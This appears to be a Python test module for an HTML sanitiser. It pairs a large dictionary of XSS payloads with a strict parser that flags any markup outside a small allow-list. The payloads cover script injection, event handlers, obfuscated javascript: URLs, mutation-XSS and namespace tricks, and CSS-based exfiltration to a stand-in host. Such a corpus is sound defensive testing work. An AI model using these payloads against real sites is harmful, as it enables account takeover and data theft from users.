"""XSS payloads, and a strict parser that finds forbidden markup.

Each of PAYLOADS calls `pwned()` or requests a resource from another host, in a browser that
receives it unchanged or after a mistake of a sanitiser. `faults` shares no code with the sanitiser:
it checks the rule (docs/decisions.md #11), not the implementation.
"""

import re
from html.parser import HTMLParser
from typing import Any

TAGS = frozenset(["p", "br", "ul", "ol", "li", "h2", "h3", "h4", "h5", "blockquote", "strong", "b"])
TAGS |= {"em", "i", "u", "a"}
SCHEMES = ("http:", "https:", "mailto:", "tel:")

_DEEP = 600  # browsers flatten what is nested deeper than 512

PAYLOADS: dict[str, str] = {
    # --- scripts ---
    "script": "<script>pwned()</script>",
    "script-unclosed": "<script>pwned()",
    "script-nested": "<scr<script>ipt>pwned()</scr</script>ipt>",
    "script-in-attribute": '<p title="</p><script>pwned()</script>">x</p>',
    "script-long-s": "<ſcript>pwned()</ſcript>",
    "script-full-width": "＜script＞pwned()＜/script＞",
    "script-nul": "<scr\0ipt>pwned()</scr\0ipt>",
    "script-comment-state": "<script><!--<script></script>pwned()//--></script>",
    # --- event handlers ---
    "img-onerror": "<img src=x onerror=pwned()>",
    "img-onerror-slashes": "<img/src=x/onerror=pwned()>",
    "img-onerror-entities": "<img src=x onerror=&#112;&#119;&#110;&#101;&#100;&lpar;&rpar;>",
    "img-onerror-form-feed": "<img\x0csrc=x\x0conerror=pwned()>",
    "img-onerror-unclosed": "<img src=x onerror=pwned() ",
    "img-onerror-nul": "<img src=x on\0error=pwned()>",
    "image-tag": "<image src=x onerror=pwned()>",
    "p-onmouseover": '<p onmouseover="pwned()" onclick="pwned()">x</p>',
    "p-quoteless": "<p x='\"'onclick=pwned()>x</p>",
    "a-onclick-after-href": "<a href='https://x.example'onclick=pwned()>x</a>",
    "a-attribute-breakout": "<a href='https://x.example/\"onfocus=pwned() autofocus x=\"'>x</a>",
    "a-attribute-breakout-entities": '<a href="https://x.example/&quot; '
    'autofocus onfocus=&quot;pwned()">x</a>',
    "autofocus-textarea": "<textarea autofocus onfocus=pwned()></textarea>",
    "video": "<video><source onerror=pwned() src=x></video>",
    "audio": "<audio src=x onerror=pwned() autoplay></audio>",
    "frameset": "<frameset onload=pwned()><frame src=javascript:pwned()></frameset>",
    # --- URLs ---
    "href-javascript": "<a href=javascript:pwned()>x</a>",
    "href-javascript-tab": "<a href='java\tscr\nipt\r:pwned()'>x</a>",
    "href-javascript-tab-entities": "<a href='java&Tab;scr&NewLine;ipt&#13;&colon;pwned()'>x</a>",
    "href-javascript-control": "<a href='&#1;&#31; javascript:pwned()'>x</a>",
    "href-javascript-decimal": "<a href=&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58pwned()>x</a>",
    "href-javascript-nul": "<a href='java\0script:pwned()'>x</a>",
    "href-javascript-nul-entity": "<a href='java&#0;script:pwned()'>x</a>",
    "href-javascript-percent-scheme": "<a href='%6aavascript:pwned()'>x</a>",
    "href-javascript-bom": "<a href='\ufeffjavascript:pwned()'>x</a>",
    "href-javascript-twice": "<a href=https://x.example href=javascript:pwned()>x</a>",
    "href-data": "<a href='data:text/html,<script>pwned()</script>'>x</a>",
    "href-protocol-relative": "<a href=//evil.example/login>x</a>",
    "href-slash-tab-slash": "<a href='/\t/evil.example/login'>x</a>",
    "href-relative": "<a href=../../admin/logout/>x</a>",
    "href-direction": "<a href='https://evil.example/\u202egpj.exe'>\u202ex</a>",
    "a-target-ping": "<a href=https://x.example target=opener ping=//evil.example/ping download "
    "rel=opener>x</a>",
    "a-xlink": "<a xlink:href=javascript:pwned() xml:base=javascript:pwned()//>x</a>",
    "blockquote-cite": "<blockquote cite=javascript:pwned()>x</blockquote>",
    "table-background": (
        "<table background=//evil.example/b.png><td background=javascript:pwned()>x</table>"
    ),
    # --- frames, objects, the page itself ---
    "iframe": "<iframe src=javascript:pwned()></iframe>",
    "iframe-srcdoc": "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>",
    "iframe-data": "<iframe src='data:text/html,<script>parent.pwned()</script>'></iframe>",
    "object": "<object data=javascript:pwned() onerror=pwned()>"
    "<param name=src value=javascript:pwned()></object>",
    "embed": "<embed src=//evil.example/x.swf allowscriptaccess=always onload=pwned()>",
    "base": "<base href=//evil.example/><a href=x>x</a>",
    "meta-refresh": "<meta http-equiv=refresh content='0;url=javascript:pwned()'>",
    # --- styles ---
    "style-url": "<p style=\"background:url('//evil.example/b.png')\">x</p>",
    "style-escapes": "<p style='b\\61ckground:\\75rl(//evil.example/b.png)'>x</p>",
    "style-import": "<style>@import '//evil.example/x.css';</style>x",
    "style-exfiltration": "<style>input[value^=a]{background:url(//evil.example/a)}</style>x",
    # --- foreign namespaces ---
    "svg-onload": "<svg onload=pwned()>",
    "svg-onload-slash": "<svg/onload=pwned()//",
    "svg-script": "<svg><script>pwned()</script></svg>",
    "svg-script-cdata": "<svg><script><![CDATA[pwned()]]></script></svg>",
    "svg-a": "<svg><a xlink:href=javascript:pwned()><text x=20 y=20>x</text></a></svg>",
    "svg-animate": (
        "<svg><a><animate attributeName=href values=javascript:pwned() /><text>x</text></a></svg>"
    ),
    "svg-set": (
        "<svg><a><set attributeName=xlink:href to=javascript:pwned() /><text>x</text></a></svg>"
    ),
    "svg-foreign-object": "<svg><foreignObject><iframe src=javascript:pwned()>"
    "</iframe></foreignObject></svg>",
    "svg-style": "<svg><style>*{background:url(//evil.example/b.png)}</style></svg>",
    "math-href": "<math href=javascript:pwned()><mtext>x</mtext></math>",
    # --- what is harmless until it is parsed a second time ---
    "mxss-noscript": '<noscript><p title="</noscript><img src=x onerror=pwned()>"></noscript>',
    "mxss-style": '<style><p title="</style><img src=x onerror=pwned()>">',
    "mxss-svg-style": '<svg></p><style><a id="</style><img src=x onerror=pwned()>">',
    "mxss-math-style": "<math></p><style><!--</style><img src/onerror=pwned()>",
    "mxss-mglyph": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img "
    "src=1 onerror=pwned()&gt;'>",
    "mxss-mglyph-form": "<form><math><mtext></form><form><mglyph>"
    "<style></math><img src onerror=pwned()></style></mglyph></form>",
    "mxss-malignmark": (
        "<math><mtext><table><malignmark><style><![CDATA[</style><img src onerror=pwned()>]]>"
    ),
    "mxss-annotation": "<math><annotation-xml encoding='text/html'>"
    "<style><img src onerror=pwned()></style></annotation-xml></math>",
    "mxss-desc-title": (
        "<svg><desc><title><style></title><img src onerror=pwned()></style></desc></svg>"
    ),
    "mxss-template": "<template><p title='</template><img src=x onerror=pwned()>'></template>",
    "mxss-shadow-root": (
        "<p><template shadowrootmode=open><img src=x onerror=pwned()></template></p>"
    ),
    "mxss-form-nesting": "<form><div></form><form><svg><style></form>"
    "<img src=x onerror=pwned()></style></svg></form>",
    "mxss-table": "<table><td><a href='</td></table><img src=x onerror=pwned()>'>x</table>",
    "mxss-foster-parent": "<table><a href=javascript:pwned()>x</a><script>pwned()</script><tr><td>y</table>",
    "mxss-foster-select": (
        "<select><template><table><img src=x onerror=pwned()></table></template></select>"
    ),
    "mxss-select": "<select><style></select><img src=x onerror=pwned()></style></select>",
    "mxss-caption": "<table><caption><svg><title><table><caption>"
    "</caption></table><img src onerror=pwned()></title>",
    "mxss-p-in-a": "<a href=https://x.example><table><a href=javascript:pwned()>x</a></table></a>",
    "mxss-adoption": "<a href=javascript:pwned()><p><a><b><p></a><img src=x onerror=pwned()></b>",
    "mxss-textarea": "<textarea><p title='</textarea><img src=x onerror=pwned()>'></textarea>",
    "mxss-title": "<title><a title='</title><img src=x onerror=pwned()>'></title>",
    "mxss-xmp": "<xmp><p title='</xmp><img src=x onerror=pwned()>'></xmp>",
    "mxss-iframe": "<iframe><p title='</iframe><img src=x onerror=pwned()>'></iframe>",
    "mxss-listing": "<listing>&lt;img src=x onerror=pwned()&gt;</listing>",
    "mxss-plaintext": "<plaintext><img src=x onerror=pwned()></plaintext>",
    "mxss-deep": "<b>" * _DEEP
    + "<svg><style><img src=x onerror=pwned()></style></svg>"
    + "</b>" * _DEEP,
    "mxss-deep-blocks": (
        "<blockquote>" * _DEEP + "<table><a href=javascript:pwned()>x" + "</blockquote>" * _DEEP
    ),
    # --- comments, declarations, broken markup ---
    "comment": "<!--<img src=x onerror=pwned()>-->x",
    "comment-short": "<!--><img src=x onerror=pwned()>-->",
    "comment-bang": "<!-- --!><img src=x onerror=pwned()> -->",
    "comment-unclosed": "<!--<img src=x onerror=pwned()>",
    "comment-conditional": "<!--[if gte IE 4]><script>pwned()</script><![endif]-->",
    "comment-downlevel": "<![if !IE]><script>pwned()</script><![endif]>",
    "cdata": "<![CDATA[<img src=x onerror=pwned()>]]>",
    "cdata-broken": "<![CDATA[><img src=x onerror=pwned()>]]>",
    "processing": (
        "<?xml-stylesheet href='javascript:pwned()'?><?php ><img src=x onerror=pwned()> ?>"
    ),
    "doctype": "<!DOCTYPE html [<!ENTITY x '<img src=x onerror=pwned()>'>]>&x;",
    "broken-tag": "<p<img src=x onerror=pwned()>",
    "broken-end-tag": (
        "</p onclick=pwned()><//img src=x onerror=pwned()></ img src=x onerror=pwned()>"
    ),
    "broken-quotes": '<img """><script>pwned()</script>">',
    "broken-equals": "<p =onclick=pwned() =><img = src=x =  onerror=pwned()>",
    "broken-angle": "<a href=https://x.example/<img/src=x/onerror=pwned()>x</a>",
    "wrapper-in-attribute": "<a href='https://x.example/</div >\" onclick=pwned()'>x</a>",
    "double-encoded": "&lt;img src=x onerror=pwned()&gt; "
    "&amp;lt;script&amp;gt;pwned()&amp;lt;/script&amp;gt;",
    "entities-without-end": "&ltscript&gtpwned()&lt/script&gt",
    # --- clobbering, templates of frameworks ---
    "framework-attributes": "<p x-data x-init=pwned() v-html=pwned() ng-app ng-init=pwned() "
    "hx-on:load=pwned()>x</p>",
}


def faults(html: str) -> list[str]:
    """Return the markup in `html` that must not be stored; empty if it is clean."""
    reader = _Reader()
    reader.feed(html)
    if reader.rawdata:
        reader.faults.append(f"ends within {reader.rawdata[:40]!r}")
    reader.close()
    if reader.open:
        reader.faults.append(f"leaves open {reader.open}")
    return reader.faults


class _Reader(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=False)
        self.faults: list[str] = []
        self.open: list[str] = []

    def handle_starttag(self, tag: str, attrs: Any) -> None:
        written = self.get_starttag_text() or ""
        if tag not in TAGS:
            self.faults.append(f"tag {tag}")
        if not re.fullmatch(r'<[a-z0-9]+(?: href="[^"<>]*")?>', written):
            self.faults.append(f"written {written!r}")
        for name, value in attrs:
            if (tag, name) != ("a", "href"):
                self.faults.append(f"attribute {name} of {tag}")
            elif not as_browsers_read(value or "").startswith(SCHEMES):
                self.faults.append(f"address {value!r}")
        if tag != "br":
            self.open.append(tag)

    def handle_startendtag(self, tag: str, attrs: Any) -> None:
        self.faults.append(f"self-closed {tag}")

    def handle_endtag(self, tag: str) -> None:
        if not self.open or self.open.pop() != tag:
            self.faults.append(f"end of {tag}")

    def handle_data(self, data: str) -> None:
        if re.search("[<>\0]", data):
            self.faults.append(f"bare {data!r}")

    def handle_comment(self, data: str) -> None:
        self.faults.append(f"comment {data!r}")

    def handle_decl(self, decl: str) -> None:
        self.faults.append(f"declaration {decl!r}")

    unknown_decl = handle_decl
    handle_pi = handle_decl


def as_browsers_read(address: str) -> str:
    """Return `address` in lower case, without the characters that browsers
    ignore before a scheme.
    """
    return re.sub("[\t\n\r]", "", address).lstrip("".join(map(chr, range(33)))).lower()
